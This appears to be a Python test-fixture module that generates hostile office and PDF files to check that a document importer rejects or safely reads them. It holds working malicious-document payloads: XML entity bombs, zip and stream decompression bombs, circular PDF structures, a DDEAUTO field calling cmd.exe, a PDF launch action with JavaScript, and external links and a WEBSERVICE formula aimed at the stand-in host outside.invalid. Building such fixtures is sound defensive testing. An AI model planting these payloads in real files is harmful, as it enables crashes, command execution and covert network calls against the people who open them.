"""More files made to break a reader: claims of size, circles, other servers, what unpacks twice. Invented."""

import io
import zipfile
import zlib
from collections.abc import Callable

from tests.data.importing.readers.hostile import package, paragraph, sheet, word
from tests.data.importing.readers.pdf_writer import Page, assemble, write_pdf

LAUGHS = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>虚构</t></is></c></row>'.encode()
SERVER = "http://outside.invalid/"


def strings_with_entities() -> bytes:
    """Shared texts of a workbook with a document type."""
    return sheet(CELL, LAUGHS + b"<sst><si><t>&b;</t></si></sst>")


def entities_in_utf_16() -> bytes:
    """The same in an encoding in which no search for letters finds it."""
    text = '<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS.decode() + "<document><body/></document>"
    return package({"word/document.xml": text.encode("utf-16")})


def deep_elements() -> bytes:
    """Elements in elements, a hundred thousand deep."""
    return word(b"<x>" * 100_000 + b"</x>" * 100_000)


def far_cell() -> bytes:
    """Two cells: the first and the last that there is."""
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>虚构</t></is></c></row>'.encode()
    return sheet(CELL + far)


def claimed_dimension() -> bytes:
    """One cell in a sheet that claims to be full."""
    content = sheet(CELL)
    return replaced(
        content, "xl/worksheets/sheet1.xml", b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'
    )


def replaced(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """A package with something else in one of its parts."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    assert old in parts[name]
    parts[name] = parts[name].replace(old, new)
    return packed(parts)


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Parts as an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def parts_of(content: bytes) -> dict[str, bytes]:
    """The parts of an archive."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def one_text_everywhere() -> bytes:
    """A hundred thousand characters in each of a thousand cells, in the file once."""
    rows = b"".join(b'<row r="%d"><c t="s"><v>0</v></c></row>' % row for row in range(1, 1001))
    return sheet(rows, f"<sst><si><t>{'虚' * 100_000}</t></si></sst>".encode())


def one_sheet_many_times() -> bytes:
    """A sheet of 1 MB under a thousand names."""
    book = (
        b'<workbook xmlns:r="urn:r"><sheets>'
        + b'<sheet name="a" sheetId="1" r:id="s1"/>' * 1000
        + b"</sheets></workbook>"
    )
    return package({**parts_of(sheet(b" " * 1_000_000)), "xl/workbook.xml": book}, "excel")


def long_format() -> bytes:
    """A number format of a million signs."""
    style = (
        b'<styleSheet><numFmts><numFmt numFmtId="200" formatCode="'
        + b"[[[y" * 250_000
        + b'"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    )
    relations = parts_of(sheet(b""))["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="s3" Type="x/styles" Target="styles.xml"/></Relationships>'
    )
    rows = '<row r="1"><c r="A1" s="0"><v>45000</v></c><c r="B1" t="inlineStr"><is><t>虚构</t></is></c></row>'.encode()
    return package(
        {**parts_of(sheet(rows)), "xl/styles.xml": style, "xl/_rels/workbook.xml.rels": relations}, "excel"
    )


def linked_workbook() -> bytes:
    """A workbook with cells of another on another server, and a query."""
    rows = '<row r="1"><c r="A1" t="str"><f>[1]甲!A1</f><v>虚构</v></c><c r="B1"><f>WEBSERVICE("http://outside.invalid/")</f></c></row>'
    link = b'<Relationships><Relationship Id="r" Type="x/externalLinkPath" Target="http://outside.invalid/a.xlsx" TargetMode="External"/></Relationships>'
    return package(
        {
            **parts_of(sheet(rows.encode())),
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": link,
            "xl/connections.xml": b'<connections><connection id="1" type="4"><webPr url="http://outside.invalid/"/></connection></connections>',
        },
        "excel",
    )


def linked_word() -> bytes:
    """A Word file with a template, a picture and a field on another server."""
    kinds = ("attachedTemplate", "image", "frame", "subDocument")
    links = "".join(
        f'<Relationship Id="{kind}" Type="x/{kind}" Target="{SERVER}{kind}" TargetMode="External"/>'
        for kind in kinds
    )
    field = b'<p><r><fldChar fldCharType="begin"/></r><r><instrText>DDEAUTO c:\\\\cmd.exe INCLUDETEXT "http://outside.invalid/"</instrText></r></p>'
    return package(
        {
            **parts_of(word(field + paragraph("虚构的正文"))),
            "word/_rels/document.xml.rels": f"<Relationships>{links}</Relationships>".encode(),
        }
    )


def packed_otherwise() -> bytes:
    """Blanks packed in a way that Office does not use and that unpacks a thousand times as large."""
    return packed(parts_of(word(b" " * 1_000_000)), zipfile.ZIP_LZMA)


def part_with_password() -> bytes:
    """Parts that are said to need a password."""
    content = bytearray(word(paragraph("虚构")))
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        content[place + 8] |= 1
        place += 4
    return bytes(content)


def many_attributes() -> bytes:
    """An element with two hundred thousand attributes."""
    return word(
        b"<p " + b" ".join(b'a%d="1"' % number for number in range(200_000)) + b"/>" + paragraph("虚构")
    )


def page_tree(kids: bytes, *more: bytes) -> bytes:
    """A PDF file whose tree of pages is this."""
    return assemble([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[" + kids + b"]/Count 1>>", *more])


def pages_in_a_circle() -> bytes:
    """A tree of pages that holds itself."""
    return page_tree(b"2 0 R 2 0 R")


def deep_page_tree() -> bytes:
    """Five thousand branches, one on the other."""
    return page_tree(
        b"3 0 R", *(b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(3, 5000))
    )


def contents(data: bytes, header: bytes) -> bytes:
    """A PDF file of one page with this content."""
    return page_tree(
        b"3 0 R",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        b"<</Length %d" % len(data) + header + b">>stream\n" + data + b"\nendstream",
    )


def packed_twice() -> bytes:
    """100 MB that were packed, and packed again."""
    return contents(zlib.compress(zlib.compress(b" " * 100_000_000, 1)), b"/Filter[/FlateDecode/FlateDecode]")


def wide_predictor() -> bytes:
    """A row of a billion bytes, as the file claims."""
    return contents(
        zlib.compress(b"\x02" * 1000), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1000000000>>"
    )


def many_objects_in_one() -> bytes:
    """A stream that claims to hold a billion objects."""
    data = zlib.compress(b"5 0 " * 100)
    stream = b"<</Type/ObjStm/N 1000000000/First 400/Filter/FlateDecode/Length %d>>stream\n" % len(data)
    return page_tree(b"3 0 R", stream + data + b"\nendstream")


def trailer_in_a_circle() -> bytes:
    """A table of places that says that it goes on in itself."""
    content = write_pdf([Page()])
    start = int(content.rpartition(b"startxref\n")[2].split()[0])
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


def script_in_pdf() -> bytes:
    """A file that wants a script run and a program started when it is opened."""
    page = Page()
    page.text(50, 50, "虚构的正文")
    actions = b"<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)/Next<</S/JavaScript/JS(app.launchURL\\('http://outside.invalid/'\\))>>>>"
    return write_pdf([page]).replace(b"<</Type/Catalog", actions, 1)


def endless_page() -> bytes:
    """A page of a billion points."""
    page = Page(size=(1_000_000_000, 1_000_000_000))
    page.text(50, 50, "虚构的正文")
    return write_pdf([page])


def locked_pdf() -> bytes:
    """A file with a password."""
    return write_pdf([Page()], trailer="/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(x)/P -4>>/ID[(a)(b)]")


def ofd_with_entities() -> bytes:
    """An OFD file with a document type."""
    return packed({"OFD.xml": LAUGHS + b"<OFD><DocBody><DocRoot>&b;</DocRoot></DocBody></OFD>"})


REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "entities in shared texts": ("弹.xlsx", strings_with_entities, "实体声明"),
    "entities in UTF-16": ("弹.docx", entities_in_utf_16, "实体声明"),
    "entities in OFD": ("弹.ofd", ofd_with_entities, "实体声明"),
    "deep elements": ("弹.docx", deep_elements, "嵌套过深"),
    "one text everywhere": ("弹.xlsx", one_text_everywhere, "文字超过 5 MB"),
    "one sheet many times": ("弹.xlsx", one_sheet_many_times, "解开后超过 60 MB"),
    "packed otherwise": ("弹.docx", packed_otherwise, "已损坏"),
    "a part with a password": ("弹.docx", part_with_password, "打开密码"),
    "pages in a circle": ("弹.pdf", pages_in_a_circle, "无法打开"),
    "deep page tree": ("弹.pdf", deep_page_tree, "展开后超过"),
    "packed twice": ("弹.pdf", packed_twice, "展开后超过"),
    "wide predictor": ("弹.pdf", wide_predictor, "展开后超过"),
    "many objects in one": ("弹.pdf", many_objects_in_one, "无法打开"),
    "a trailer in a circle": ("弹.pdf", trailer_in_a_circle, "嵌套过深"),
    "a PDF with a password": ("弹.pdf", locked_pdf, "密码"),
}
"""Name of the file, its content, and what is said."""

READ: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a far cell": ("怪.xlsx", far_cell),
    "a claimed dimension": ("怪.xlsx", claimed_dimension),
    "a long format": ("怪.xlsx", long_format),
    "links of a workbook": ("怪.xlsx", linked_workbook),
    "links of a Word file": ("怪.docx", linked_word),
    "many attributes": ("怪.docx", many_attributes),
    "a script in PDF": ("怪.pdf", script_in_pdf),
    "an endless page": ("怪.pdf", endless_page),
}
"""Odd, but to be read; nothing in it is run or fetched."""

OTHER_DOORS: dict[str, tuple[Callable[[], bytes], str]] = {
    "entities": (strings_with_entities, "实体声明"),
    "one text everywhere": (one_text_everywhere, "文字超过 5 MB"),
    "one sheet many times": (one_sheet_many_times, "解开后超过 60 MB"),
    "thousands of parts": (
        lambda: package({f"xl/{number}.xml": b"" for number in range(3000)}, "excel"),
        "部件超过",
    ),
    "macros": (
        lambda: package({"xl/workbook.xml": b"<workbook/>", "xl/vbaProject.bin": b"x"}, "excel"),
        "宏",
    ),
    "deep elements": (lambda: sheet(b"<x>" * 1000 + b"</x>" * 1000), "嵌套过深"),
}
"""Workbooks that are given as a ledger that comes back, and as a directory."""
